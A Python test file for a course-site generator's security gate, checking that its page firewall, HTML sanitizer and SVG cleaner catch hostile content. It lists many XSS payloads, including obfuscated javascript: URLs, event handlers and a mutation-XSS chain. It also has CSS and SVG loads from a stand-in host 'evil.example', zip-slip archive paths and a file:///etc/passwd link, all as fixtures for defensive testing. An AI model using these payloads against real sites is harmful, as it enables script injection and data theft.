"""The last gate finds what the gates before it should have taken out."""

import hashlib
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from tests.publishing.libraries import PNG

from courseforge.model import SiteFile
from courseforge.rendering.body.sanitizer import is_local, sanitize
from courseforge.rendering.firewall import POLICY, inspect_file, inspect_page, inspect_site
from courseforge.rendering.svg import clean_svg

POLICY_META = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
SCRIPTS = frozenset({"_static/site.1a2b3c4d.js"})
PAGE = f"<!doctype html><html><head>{POLICY_META}</head><body>{{}}</body></html>"

BAD_BODIES = [
    "<script>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<script src="//evil.example/x.js"></script>',
    '<script type="module" src="site.js"></script>',
    '<script type="importmap">{}</script>',
    '<script type="application/ld+json">{not json}</script>',
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<svg><animate onbegin=alert(1)></svg>",
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="https://example.org" ping="https://evil.example/">x</a>',
    '<img src="https://evil.example/p.png">',
    '<img src="//evil.example/p.png">',
    '<img src="\\\\evil.example/p.png">',
    '<img srcset="https://evil.example/p.png 2x">',
    '<video poster="https://evil.example/p.png"></video>',
    '<iframe src="x.html"></iframe>',
    '<object data="x"></object>',
    '<embed src="x">',
    '<base href="/">',
    "<style>p{}</style>",
    '<p style="color:red">x</p>',
    '<form action="https://evil.example/"></form>',
    '<meta http-equiv="refresh" content="0">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="preconnect" href="https://evil.example">',
    "<noscript><img src=x></noscript>",
    "<template><b>x</b></template>",
    '<script src="data.txt"></script>',
    '<script src="../_static/site.1a2b3c4d.js" onload="alert(1)"></script>',
    '<link rel="Stylesheet" href="https://evil.example/x.css">',
    '<link rel="preload" href="x.js" as="script">',
    '<img srcset="a.png 1x, https://evil.example/b.png 2x">',
    '<svg><image href="https://evil.example/p.png"/></svg>',
    '<img src="/&#9;/evil.example/p.png">',
    '<img src="///evil.example/p.png">',
    '<form><input type="password"></form>',
    '<form role="search" method="get" action="https://evil.example/search.html"><input type="search" name="q"></form>',
    '<form role="search" method="post" action="../search.html"><input type="search" name="q"></form>',
    '<form role="search" method="get" action="../search.html"><input type="text" name="q"></form>',
    '<form role="search" method="get" action="../search.html"><button type="submit" formaction="x">Go</button></form>',
    '<form method="get" action="https://evil.example/chooser.html"><button type="submit">Go</button></form>',
    '<form method="get" action="//evil.example/chooser.html"></form>',
    '<form method="post" action="../chooser.html"></form>',
    '<form method="get" action="../lab/other.html"></form>',
    '<form method="get" action="../chooser.html" target="_blank"></form>',
    '<form method="get"></form>',
    '<input type="radio" name="password" value="x">',
    '<input type="text" name="time" value="x">',
    '<input type="radio" name="time" value="x" form="other">',
    '<select name="card"><option>1</option></select>',
    '<button type="submit" formaction="https://evil.example/">Go</button>',
    "<button>Go</button>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
]


@pytest.mark.parametrize("body", BAD_BODIES)
def test_bad_pages_are_found(body: str) -> None:
    assert inspect_page(PAGE.format(body).encode(), "lab/a.html", SCRIPTS)


@pytest.mark.parametrize(
    "body",
    [
        "<p>Words, <code>onclick=</code> among them: javascript:alert(1)</p>",
        '<a href="../sound-lab/first-beat.html#listen">x</a> <a href="mailto:x@example.org">y</a>',
        '<script src="../_static/site.1a2b3c4d.js"></script>',
        '<script type="application/ld+json">{"name": "a \\u003c b"}</script>',
        '<audio controls src="_media/1.wav"></audio><img src="data.png" alt="x">',
        '<picture><source type="image/webp" srcset="../_showcase/a.webp 480w, b.webp 768w"><img src="a.png" alt=""></picture>',
        '<link rel="alternate" hreflang="es" href="https://learn.example.org/es/">',
        '<form id="cf-choose" method="get" action="../es/chooser.html" aria-labelledby="cf-you"><fieldset><legend>Time'
        '</legend><input type="radio" name="time" value="any" id="cf-time-any" checked><label for="cf-time-any">Any'
        '</label></fieldset><button class="reset" type="reset">Start over</button></form>',
        '<form method="get" action="./chooser.html"><select name="interest" aria-label="What I like"><option value="sky">'
        'The sky</option></select><button class="button" type="submit">Show me</button></form>',
        '<form class="search" role="search" method="get" action="../search.html"><input type="search" name="q" '
        'aria-label="Search"><button type="submit">Search</button></form>',
    ],
)
def test_good_pages_pass(body: str) -> None:
    assert inspect_page(PAGE.format(body).encode(), "lab/a.html", SCRIPTS) == []


def test_a_page_without_a_policy_is_refused() -> None:
    assert inspect_page(b"<!doctype html><p>hello</p>", "a.html", ()) == ["it states no Content-Security-Policy"]
    weak = PAGE.format("").replace("script-src 'self'", "script-src *")
    assert inspect_page(weak.encode(), "a.html", ())
    named = PAGE.format("").replace("http-equiv", "name")
    assert inspect_page(named.encode(), "a.html", ())
    late = PAGE.format("").replace("<head>", '<head><script src="../_static/site.1a2b3c4d.js"></script>')
    assert inspect_page(late.encode(), "lab/a.html", SCRIPTS)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("a/evil.js", b"alert(1)"),
        ("a/page.htm", b"<script>alert(1)</script>"),
        ("a/page.xhtml", b"<html/>"),
        ("a/x.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("a/x.svg", b'<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
        (
            "a/x.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
        ),
        ("a/x.css", b"@import 'https://evil.example/x.css';"),
        ("a/x.css", b"p{background:url(https://evil.example/x)}"),
        ("a/x.xml", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
        ("a/x.json", b"{"),
        ("a/x.swf", b"FWS"),
        ("a/noextension", b"<script>"),
        ("feed.xml", b"<feed"),
        (
            "feed.xml",
            b'<feed xmlns="http://www.w3.org/2005/Atom"><script xmlns="http://www.w3.org/1999/xhtml"/></feed>',
        ),
        ("feeds/music.xml", b'<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">x</title></feed>'),
        ("es/feed.xml", b'<feed xmlns="http://www.w3.org/2005/Atom"><link href="javascript:alert(1)"/></feed>'),
        ("feed.xml", b'<?xml-stylesheet href="x.xsl"?><feed xmlns="http://www.w3.org/2005/Atom"></feed>'),
        ("lab/feed.xml.xml", b'<feed xmlns="http://www.w3.org/2005/Atom"></feed>'),
    ],
)
def test_bad_files_are_found(path: str, content: bytes) -> None:
    assert inspect_file(_file(path, content), {"index.html"}, SCRIPTS)


@pytest.mark.parametrize(
    ("name", "mode", "passes"),
    [
        ("beat/data/a b.csv", 0o100644, True),
        ("../beat.py", 0o100644, False),
        ("beat/../../x.py", 0o100644, False),
        ("/etc/cron.d/x", 0o100644, False),
        ("C:x.py", 0o100644, False),
        ("..\\x.py", 0o100644, False),
        ("beat/link", 0o120777, False),
    ],
)
def test_an_archive_lands_where_it_is_unpacked(name: str, mode: int, passes: bool) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        entry = zipfile.ZipInfo(name)
        entry.filename, entry.external_attr = name, mode << 16
        archive.writestr(entry, b"x")
    assert (inspect_file(_file("lab/beat.zip", packed.getvalue()), (), SCRIPTS) == []) is passes
    assert inspect_file(_file("lab/beat.zip", packed.getvalue()[:40]), (), SCRIPTS)


@pytest.mark.parametrize(
    ("path", "data", "passes"),
    [
        ("_downloads/1f/mask.gds", b"\0\6\0\2", True),
        ("_downloads/1f/model.v2.Rmd", b"---\n", True),
        ("_images/mask.gds", b"\0\6\0\2", False),
        ("_downloads/1f/mask.gds", b"\xef\xbb\xbf \n<!doctype html>", False),
        ("_downloads/1f/mask.gds", b"\xff\xfe<\0h\0", False),
        ("_downloads/1f/mask", b"words", False),
        ("_downloads/1f/page.html.gds", b"words", False),
        ("_downloads/1f/page.php", b"words", False),
        ("_downloads/1f/page.XHTML", b"words", False),
    ],
)
def test_data_of_unknown_kinds_passes_as_a_download(path: str, data: bytes, passes: bool) -> None:
    assert (inspect_file(_file(path, data), (), ()) == []) is passes


def test_a_plain_feed_passes() -> None:
    data = b'<feed xmlns="http://www.w3.org/2005/Atom"><link href="https://learn.example.org/"/><id>x</id></feed>'
    assert [inspect_file(_file(path, data), (), SCRIPTS) for path in ("feed.xml", "es/feeds/music.xml")] == [[], []]


def test_only_our_own_pages_and_scripts_may_lie_in_the_site() -> None:
    page = _file("lab/a.html", PAGE.format("").encode())
    script = _file("_static/site.1a2b3c4d.js", b"1")
    assert inspect_site([page, script], {"lab/a.html": "courses/lab/a.md"}, SCRIPTS) == (frozenset(), ())
    refused, (said, *_) = inspect_site([page, _file("lab/b.html", page.read_bytes())], {"lab/a.html": ""}, SCRIPTS)
    assert refused == {"lab/b.html"}
    assert "lab/b.html" in said.message
    assert said.hint
    bad = _file("lab/a.html", PAGE.format("<script>1</script>").encode())
    _, (said,) = inspect_site([bad], {"lab/a.html": "courses/lab/a.md"}, SCRIPTS)
    assert said.location.path == "courses/lab/a.md"  # where its author can mend it


@given(st.text(alphabet="<>/=\"' abonimgsrcxyl:;&#\\scriptdalervtj()-!?\n\t", max_size=120))
def test_whatever_is_sanitized_passes_the_gate(text: str) -> None:
    assert inspect_page(PAGE.format(sanitize(text)).encode(), "lab/a.html", SCRIPTS) == []


@given(st.sampled_from(BAD_BODIES), st.sampled_from(BAD_BODIES), st.integers(0, 60))
def test_bad_bodies_mixed_and_cut_are_made_safe(one: str, other: str, cut: int) -> None:
    assert inspect_page(PAGE.format(sanitize(one[:cut] + other + one[cut:])).encode(), "lab/a.html", SCRIPTS) == []


@pytest.mark.parametrize(
    "url", ["//evil.example", "\\\\evil.example", "/\\evil.example", "https:x", "\tjavascript:1", "data:,x"]
)
def test_addresses_elsewhere_are_not_local(url: str) -> None:
    assert not is_local(url)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<circle r="1" onclick="alert(1)"/>',
        '<image href="https://evil.example/x.png"/>',
        '<image xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImV2aWwiLz4="/>',
        '<image href="data:image/png;base64,PHNjcmlwdD4="/>',
        '<image href="data:text/html;base64,PHNjcmlwdD4="/>',
        f'<image href="data:image/png;base64,{PNG}" xlink:href="https://evil.example/x.png" onload="evil()"/>',
        '<use xlink:href="https://evil.example/x.svg#a"/>',
        '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
        "<foreignObject><p>x</p></foreignObject>",
        "<style>@import 'https://evil.example/x.css'; .a{fill:red}</style>",
        '<rect fill="url(https://evil.example/x#f)"/>',
        '<rect style="background:url(//evil.example)"/>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<style>@\\69mport "https://evil.example/x.css";</style>',
        '<rect style="fill:u\\72l(https://evil.example/x)"/>',
        "<rect style=\"background:image-set('https://evil.example/x' 1x)\"/>",
    ],
)
def test_drawings_are_cleaned(inside: str) -> None:
    cleaned = clean_svg(SVG.format(inside + '<path d="M0 0h9"/>').encode())
    assert cleaned is not None
    assert inspect_file(_file("x.svg", cleaned), (), ()) == []
    assert b"M0 0h9" in cleaned
    assert b"evil" not in cleaned
    assert b"PH" not in cleaned


def test_a_drawing_keeps_what_it_is_made_of() -> None:
    drawing = SVG.format(
        '<title>Bars</title><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
        '<style>.a{fill:red}</style><g transform="scale(2)"><rect class="a" fill="url(#g)" width="3"/></g>'
        '<use xlink:href="#g"/><text x="1">a &amp; b</text>'
        f'<image xlink:href="data:image/png;base64,{PNG}" width="3"/>'
    )
    cleaned = clean_svg(drawing.encode())
    assert cleaned is not None
    assert inspect_file(_file("x.svg", cleaned), (), ()) == []
    assert etree.tostring(etree.fromstring(cleaned), method="c14n") == etree.tostring(
        etree.fromstring(drawing.encode()), method="c14n"
    )


@pytest.mark.parametrize("data", [b"", b"<p>x</p>", b"<svg", b"\xff\xfe"])
def test_what_is_no_drawing_is_refused(data: bytes) -> None:
    assert clean_svg(data) is None


def _file(path: str, content: bytes) -> SiteFile:
    return SiteFile(path, hashlib.sha256(content).hexdigest(), len(content), content)


def book(**files: str) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("mimetype", "application/epub+zip")
        for name, content in files.items():
            archive.writestr(name.replace("__", "."), content)
    return data.getvalue()


def xhtml(body: str, head: str = "") -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><head>{head}</head>'
        f"<body>{body}</body></html>"
    )


def test_a_book_that_runs_nothing_passes():
    page = xhtml(
        '<p id="a"><a href="#a">1</a> <a href="b.xhtml">2</a> <a href="https://example.org">3</a><img src="media/a.png" '
        'alt=""/><math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math></p>',
        '<link rel="stylesheet" href="book.css"/>',
    )
    data = book(a__xhtml=page, book__css="p { margin: 0 }", package__opf="<package/>", a__png="\x89PNG")
    assert inspect_file(_file("catalog/epub/a.en.epub", data), (), ()) == []


@pytest.mark.parametrize(
    ("files", "fault"),
    [
        ({"a__xhtml": xhtml("<script>x()</script>")}, "“script” element"),
        ({"a__xhtml": xhtml('<p onclick="x()">a</p>')}, "event handler"),
        ({"a__xhtml": xhtml('<img src="https://example.org/a.png" alt=""/>')}, "from elsewhere (img src)"),
        ({"a__xhtml": xhtml('<img src="//example.org/a.png" alt=""/>')}, "from elsewhere (img src)"),
        ({"a__xhtml": xhtml("", '<link rel="stylesheet" href="https://example.org/a.css"/>')}, "(link href)"),
        ({"a__xhtml": xhtml("", '<meta http-equiv="refresh" content="0;url=x"/>')}, "“http-equiv” attribute"),
        ({"a__xhtml": xhtml('<p style="background: url(https://example.org)">a</p>')}, "a style in it"),
        ({"a__xhtml": xhtml('<a href="java\nscript:x()">a</a>')}, "leads out of the book"),
        ({"a__xhtml": xhtml('<a href="file:///etc/passwd">a</a>')}, "leads out of the book"),
        ({"a__xhtml": xhtml("<iframe/>")}, "“iframe” element"),
        ({"a__xhtml": xhtml('<svg xmlns="http://www.w3.org/2000/svg"><animate/></svg>')}, "“animate” element"),
        ({"a__html": xhtml("<style>@import 'x';</style>")}, "a style in it"),
        ({"a__xhtml": xhtml("<?xml-stylesheet href='x'?>")}, "instruction"),
        ({"a__xhtml": '<!DOCTYPE html [<!ENTITY a "b">]><html xmlns="http://www.w3.org/1999/xhtml"/>'}, "well-formed"),
        ({"a__xhtml": "<p>"}, "well-formed"),
        ({"a__svg": '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'}, "“script” element"),
        ({"a__css": "@import 'https://example.org/a.css';"}, "style sheet loads"),
        ({"a__opf": '<package><script xmlns="http://www.w3.org/1999/xhtml"/></package>'}, "elements of a page"),
        ({"a__js": "x()"}, "belongs into none (.js)"),
        ({"a__html": "<p>"}, "well-formed"),
        ({"/../a__xhtml": xhtml("")}, "outside of its folder"),
    ],
)  # fmt: skip
def test_a_book_is_looked_into(files: dict[str, str], fault: str):
    found = inspect_file(_file("catalog/epub/a.en.epub", book(**files)), (), ())
    assert any(fault in said for said in found), found


def test_what_calls_itself_a_book_has_to_be_one():
    assert inspect_file(_file("lab/_downloads/a.epub", b"PK"), (), ()) == ["it is no whole archive"]
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("a.xhtml", xhtml(""))
    assert inspect_file(_file("a.epub", data.getvalue()), (), ()) == ["it does not say first that it is a book"]
